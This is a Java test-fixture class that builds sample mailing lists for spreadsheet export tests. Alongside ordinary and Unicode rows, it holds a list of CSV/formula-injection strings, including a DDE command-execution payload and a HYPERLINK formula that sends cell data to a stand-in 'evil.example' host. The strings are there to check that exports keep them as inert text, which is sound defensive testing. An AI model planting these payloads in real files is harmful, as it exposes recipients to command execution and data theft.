package fi.kanta.export;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

/** Lists the export tests write: a typical recipient list and the hostile and Unicode values every format must keep. */
final class MailingLists {

    static final List<ListColumn> RECIPIENT_COLUMNS = List.of(
            StandardColumn.FIRST_NAME.column(), StandardColumn.POSTAL_CODE.column(), StandardColumn.PHONE.column(),
            StandardColumn.FREQUENCY.column(), StandardColumn.P_ALIVE.column(), StandardColumn.CLV_12M.column(),
            StandardColumn.LAST_PURCHASE.column(), StandardColumn.SENT_AT.column(), new ListColumn("Consented", CellType.BOOLEAN));

    static final LocalDate LAST_PURCHASE = LocalDate.of(2026, 3, 14);
    static final LocalDateTime SENT_AT = LocalDateTime.of(2026, 11, 23, 14, 5);

    /** Anna from Helsinki: every cell type in one row. */
    static Object[] anna() {
        return new Object[] {"Anna", "00100", "+358401234567", 7L, 0.8125, new BigDecimal("1234.50"), LAST_PURCHASE, SENT_AT,
            Boolean.TRUE};
    }

    /** A row with nothing but the name. */
    static Object[] blank() {
        return new Object[] {"Erkki", null, null, null, null, null, null, null, null};
    }

    /** Text a spreadsheet could read as a formula or a number, each of which must stay as written. */
    static final List<String> HOSTILE = List.of("=cmd|' /C calc'!A0", "=1+1", "+1", "-2", "@SUM(A1)", "\t=1+2", "\r=1+3",
            "\n=1+4", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");

    static final List<String> UNICODE = List.of("Äijälä Öljymäki Åsa", "Hinta 12 €", "Juhlat 🎉🎂", "Привет, Мир",
            "東京", "Zoë \"the quote\" O'Brien, Jr.", "Line one\nline two");

    static final List<ListColumn> TEXT_COLUMNS = List.of(new ListColumn("Note", CellType.TEXT),
            new ListColumn("Offer code", CellType.TEXT_CODE));

    /** One row per text, the same text in a TEXT and a TEXT_CODE column. */
    static List<Object[]> textRows(List<String> texts) {
        List<Object[]> rows = new ArrayList<>();
        texts.forEach(t -> rows.add(new Object[] {t, t}));
        return rows;
    }

    /** Rows numbered 1.. n: the name "Customer i", postal code i padded to five digits. */
    static Iterator<Object[]> numbered(int n) {
        List<Object[]> rows = new ArrayList<>();
        for (int i = 1; i <= n; i++) {
            rows.add(new Object[] {"Customer " + i, String.format("%05d", i)});
        }
        return rows.iterator();
    }

    static final List<ListColumn> NUMBERED_COLUMNS = List.of(StandardColumn.FIRST_NAME.column(),
            StandardColumn.POSTAL_CODE.column());

    static byte[] written(ListWriter writer, List<ListColumn> columns, Iterator<Object[]> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(out, new ListDocument("Win-back recipients", "win-back/2026-W48", null), columns, rows);
        return out.toByteArray();
    }

    private MailingLists() {
    }
}
